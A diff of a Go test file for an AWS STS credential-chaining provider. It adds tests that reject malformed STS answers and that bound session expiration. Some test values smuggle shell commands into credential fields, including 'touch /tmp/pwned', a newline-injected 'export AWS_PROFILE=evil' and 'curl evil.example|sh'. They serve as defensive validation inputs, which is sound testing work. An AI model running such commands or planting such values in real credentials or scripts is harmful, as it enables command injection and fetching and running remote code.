@@ -4,6 +4,8 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"io"
+	"net/http"
 	"strings"
 	"testing"
 	"testing/synctest"
@@ -46,7 +48,7 @@ func TestFailedCallNamesLinkAndIsNotCached(t *testing.T) {
 
 			c, err := p.Retrieve(context.Background())
 			require.NoError(t, err, "the next Retrieve tries again")
-			assert.Equal(t, "ASIAA2", c.AccessKeyID)
+			assert.Equal(t, issuedKey("A", 2), c.AccessKeyID)
 		})
 	}
 }
@@ -152,6 +154,24 @@ func TestMalformedAnswersAreErrors(t *testing.T) {
 			return c
 		}, "expired at"},
 		{"all of it", func(c *types.Credentials) *types.Credentials { return &types.Credentials{} }, "Credentials has no AccessKeyId, SecretAccessKey, SessionToken, Expiration"},
+		// Values a shell would run if an export line printed them.
+		{"command in the access key", func(c *types.Credentials) *types.Credentials {
+			c.AccessKeyId = aws.String("ASIA$(touch /tmp/pwned)")
+			return c
+		}, "Credentials.AccessKeyId is not an AWS access key ID (16 to 128 upper-case letters and digits)"},
+		{"short access key", func(c *types.Credentials) *types.Credentials { c.AccessKeyId = aws.String("ASIA1"); return c }, "Credentials.AccessKeyId is not"},
+		{"newline in the secret", func(c *types.Credentials) *types.Credentials {
+			c.SecretAccessKey = aws.String("abc\nexport AWS_PROFILE=evil")
+			return c
+		}, "Credentials.SecretAccessKey is not made of the base64 alphabet (A-Z, a-z, 0-9, +, / and =)"},
+		{"semicolon in the token", func(c *types.Credentials) *types.Credentials {
+			c.SessionToken = aws.String("abc;curl evil.example|sh")
+			return c
+		}, "Credentials.SessionToken is not made of the base64 alphabet"},
+		{"expiration in 2099", func(c *types.Credentials) *types.Credentials {
+			c.Expiration = aws.Time(time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC))
+			return c
+		}, "the credentials expire at 2099-01-01T00:00:00Z"},
 	} {
 		for _, role := range []string{roleA, ""} {
 			t.Run(tc.name+"/"+linkName(role), func(t *testing.T) {
@@ -162,6 +182,9 @@ func TestMalformedAnswersAreErrors(t *testing.T) {
 				_, err := p.Retrieve(context.Background())
 				require.ErrorIs(t, err, ErrMalformedResponse)
 				assert.ErrorContains(t, err, tc.want)
+				for _, v := range []string{"touch", "export", "curl"} {
+					assert.NotContains(t, err.Error(), v, "the error quotes no value")
+				}
 				assert.ErrorContains(t, err, "stschain: "+linkName(role)+": ")
 				assert.Empty(t, cache.stores, "nothing is cached")
 				f.mangle = nil
@@ -171,5 +194,110 @@ func TestMalformedAnswersAreErrors(t *testing.T) {
 				assert.Equal(t, 2, f.count())
 			})
 		}
+	}
+}
+
+// An answer's Expiration may lie no further ahead than the longest
+// session STS grants the call (12 hours for AssumeRole, 36 for
+// GetSessionToken) and five minutes for clocks that disagree.
+func TestAnswerExpirationBound(t *testing.T) {
+	for _, tc := range []struct {
+		role     string
+		lifetime time.Duration
+		ok       bool
+	}{
+		{roleA, 12*time.Hour + clockSkew, true},
+		{roleA, 12*time.Hour + clockSkew + time.Second, false},
+		{"", 36*time.Hour + clockSkew, true},
+		{"", 36*time.Hour + clockSkew + time.Second, false},
+	} {
+		t.Run(fmt.Sprintf("%s/%v", linkName(tc.role), tc.lifetime), func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				f := newFakeSTS("A", tc.lifetime)
+				_, err := newFake(t, f, staticMaster("alice"), withRole(tc.role)).Retrieve(context.Background())
+				if tc.ok {
+					assert.NoError(t, err)
+					return
+				}
+				require.ErrorIs(t, err, ErrMalformedResponse)
+				assert.ErrorContains(t, err, "but STS grants sessions of")
+			})
+		})
+	}
+}
+
+// roundTripFunc is an http.RoundTripper that answers in the calling
+// goroutine, so that an SDK client using it works in a synctest bubble.
+type roundTripFunc func(*http.Request) (*http.Response, error)
+
+func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
+
+// answering returns a config whose STS client gets answer's response to
+// every request, through the SDK's own deserializer, with one attempt.
+func answering(answer roundTripFunc) aws.Config {
+	return aws.Config{
+		Region:           "us-east-1",
+		BaseEndpoint:     aws.String("https://sts.answers.invalid"),
+		HTTPClient:       &http.Client{Transport: answer},
+		Credentials:      staticMaster("alice"),
+		RetryMaxAttempts: 1,
+	}
+}
+
+// xmlAnswer is an HTTP response with body and an STS answer's headers.
+func xmlAnswer(r *http.Request, status int, date time.Time, body io.Reader) *http.Response {
+	h := http.Header{"Content-Type": {"text/xml"}, "X-Amzn-Requestid": {"r"}}
+	if !date.IsZero() {
+		h.Set("Date", date.UTC().Format(http.TimeFormat))
+	}
+	return &http.Response{StatusCode: status, Header: h, Body: io.NopCloser(body), Request: r, ContentLength: -1}
+}
+
+// assumeRoleXML is an AssumeRole answer of role session s of role A.
+func assumeRoleXML(keyID, secret, token string, expires time.Time) string {
+	return fmt.Sprintf(`<AssumeRoleResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><AssumeRoleResult>
+<Credentials><AccessKeyId>%s</AccessKeyId><SecretAccessKey>%s</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s</Expiration></Credentials>
+<AssumedRoleUser><Arn>arn:aws:sts::123456789012:assumed-role/A/s</Arn><AssumedRoleId>AROA:s</AssumedRoleId></AssumedRoleUser>
+</AssumeRoleResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></AssumeRoleResponse>`,
+		keyID, secret, token, expires.UTC().Format(time.RFC3339))
+}
+
+// A host clock behind STS's sees a session end later than the longest
+// STS grants: the bound counts from the answer's Date when that is ahead,
+// by one session at most, so that an answer dated far ahead cannot make a
+// session last for ever.
+func TestAnswerExpirationCountsFromTheAnswersDate(t *testing.T) {
+	for _, tc := range []struct {
+		name          string
+		date, expires time.Duration // from now
+		ok            bool
+	}{
+		{"host clock 10 minutes behind", 10 * time.Minute, 10*time.Minute + 12*time.Hour, true},
+		{"host clock 10 minutes behind, a longer session", 10 * time.Minute, 10*time.Minute + 12*time.Hour + clockSkew + time.Second, false},
+		{"host clock ahead", -10 * time.Minute, 12 * time.Hour, true},
+		{"dated far ahead", 70 * 365 * 24 * time.Hour, 70*365*24*time.Hour + time.Hour, false},
+		{"no Date", 0, 12*time.Hour + clockSkew + time.Second, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				now := time.Now()
+				cfg := answering(func(r *http.Request) (*http.Response, error) {
+					var date time.Time
+					if tc.date != 0 {
+						date = now.Add(tc.date)
+					}
+					body := assumeRoleXML("ASIASERVER000001", "secret", "token", now.Add(tc.expires))
+					return xmlAnswer(r, http.StatusOK, date, strings.NewReader(body)), nil
+				})
+				p, err := New(cfg, withRole(roleA))
+				require.NoError(t, err)
+				_, err = p.Retrieve(context.Background())
+				if tc.ok {
+					assert.NoError(t, err)
+					return
+				}
+				assert.ErrorIs(t, err, ErrMalformedResponse)
+			})
+		})
 	}
 }
